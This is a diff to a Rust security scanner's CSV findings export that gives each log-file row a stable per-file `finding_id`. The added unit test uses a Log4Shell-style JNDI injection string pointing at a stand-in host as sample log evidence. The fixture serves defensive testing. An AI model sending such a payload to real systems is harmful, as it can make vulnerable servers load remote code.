@@ -1,5 +1,7 @@
 //! CSV of findings: one row per finding, for spreadsheets and ticket systems; a log finding
-//! has one row per log file, with that file's count of traces.
+//! has one row per log file, with that file's count of traces. Every row has its own
+//! `finding_id` (a ticket system keys on it): a log file's row the hash of the finding's id
+//! and the file, stable from run to run.
 
 use praxcheck_i18n::{Catalog, Lang};
 use praxcheck_model::Document;
@@ -85,6 +87,7 @@ fn write_csv(docs: &[Document], lang: Lang, with_host: bool) -> Result<String, R
             };
             for (file, count) in &files {
                 let explanation = format!("{count} – {}", f.explanation.get(code));
+                let row_id = praxcheck_model::short_hash(&[f.id.as_bytes(), file.as_bytes()]);
                 let mut row = vec![
                     f.severity.as_str(),
                     f.status.as_str(),
@@ -96,7 +99,7 @@ fn write_csv(docs: &[Document], lang: Lang, with_host: bool) -> Result<String, R
                     explanation.as_str(),
                     f.remediation.get(code),
                     fixed.as_str(),
-                    f.id.as_str(),
+                    row_id.as_str(),
                 ];
                 if with_host {
                     row.push(doc.scan.hostname.as_str());
@@ -133,7 +136,62 @@ fn write_csv(docs: &[Document], lang: Lang, with_host: bool) -> Result<String, R
 
 #[cfg(test)]
 mod tests {
-    use super::cell;
+    use super::{cell, findings_csv};
+    use praxcheck_i18n::Lang;
+    use praxcheck_model::Document;
+
+    #[test]
+    fn every_row_has_its_own_finding_id() {
+        let mut doc: Document =
+            serde_json::from_str(include_str!("../../assess/tests/fixtures/empfang.json"))
+                .expect("fixture");
+        let trace = |file: &str, line: u64| {
+            serde_json::from_value(serde_json::json!({
+                "location": {"chain": [file], "display": file},
+                "line": line,
+                "level": "payload_seen",
+                "payload": "${jndi:ldap://evil.example/a}",
+            }))
+            .expect("trace")
+        };
+        doc.inventory.log_evidence = vec![
+            trace("/var/log/a.log", 1),
+            trace("/var/log/a.log", 7),
+            trace("/var/log/b.log", 3),
+        ];
+        let text = serde_json::json!({"de": "t", "en": "t"});
+        let finding = |id: &str, fact: &str| {
+            serde_json::from_value(serde_json::json!({
+                "id": id, "rule_id": "PRAX-LOG-1", "advisory_id": "PRAX-LOG-1",
+                "subject": {"fact": fact},
+                "severity": "high", "status": "vulnerable",
+                "title": text, "explanation": text, "remediation": text,
+            }))
+            .expect("finding")
+        };
+        doc.findings = vec![
+            finding("aaaaaaaaaaaaaaaa", "log.evidence"),
+            finding("bbbbbbbbbbbbbbbb", "host.other"),
+        ];
+        let csv = findings_csv(&doc, Lang::En).expect("csv");
+        let mut r = csv::Reader::from_reader(csv.as_bytes());
+        let col = r
+            .headers()
+            .expect("header")
+            .iter()
+            .position(|h| h == "finding_id")
+            .expect("finding_id column");
+        let ids: Vec<String> = r
+            .records()
+            .map(|rec| rec.expect("row")[col].to_owned())
+            .collect();
+        // Two log files and one other finding: three rows, three ids, stable per file.
+        assert_eq!(ids.len(), 3, "{csv}");
+        let unique: std::collections::BTreeSet<&String> = ids.iter().collect();
+        assert_eq!(unique.len(), 3, "{csv}");
+        assert!(ids.contains(&"bbbbbbbbbbbbbbbb".to_owned()), "{csv}");
+        assert_eq!(findings_csv(&doc, Lang::En).expect("csv"), csv);
+    }
 
     #[test]
     fn cells_that_look_like_formulas_are_quoted() {
